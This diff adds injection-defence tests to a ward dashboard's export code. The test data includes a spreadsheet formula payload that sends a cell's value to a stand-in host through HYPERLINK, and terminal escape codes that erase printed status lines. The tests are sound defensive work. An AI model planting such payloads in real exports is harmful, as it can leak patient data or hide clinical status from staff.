@@ -234,3 +234,37 @@ def test_json_carries_valid_until_and_support(ward_folder):
 def test_table_says_words_and_support(ward_folder):
     _, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--format", "table")
     assert "support:" in out and "mm[Hg]" not in out.split("rule:")[0]
+
+
+def test_exports_cannot_attack_a_spreadsheet_or_a_terminal(ward_folder):
+    # A patient id from the input that a spreadsheet would run, or whose escape codes
+    # would erase the status printed beside it in a terminal.
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    text = (ward_folder / "patients.csv").read_text().replace("P003,", '"' + hostile.replace(
+        '"', '""') + '",')
+    (ward_folder / "patients.csv").write_text(text)
+    for name in ("doses.csv",):
+        path = ward_folder / name
+        path.write_text(path.read_text().replace("P003,", '"' + hostile.replace('"', '""')
+                                                  + '",'))
+    code, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--format", "csv")
+    assert code == 0
+    ids = {row["patient_id"] for row in csv.DictReader(io.StringIO(out))}
+    assert "'" + hostile in ids and hostile not in ids
+
+    escape = "P\x1b[2K\x1b[1A"
+    (ward_folder / "patients.csv").write_text(text.replace('"' + hostile.replace(
+        '"', '""') + '"', escape))
+    path = ward_folder / "doses.csv"
+    path.write_text(path.read_text().replace('"' + hostile.replace('"', '""') + '"', escape))
+    code, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--format",
+                            "table")
+    assert code == 0
+    assert "\x1b" not in out and "P?[2K?[1A" in out
+
+
+def test_a_negative_number_stays_a_number_in_the_csv():
+    from dashboard.exports import spreadsheet_safe
+
+    assert [spreadsheet_safe(v) for v in ("-0.5", "+3", "-", "@x", "\tx", 12)] == [
+        "-0.5", "+3", "'-", "'@x", "'\tx", 12]
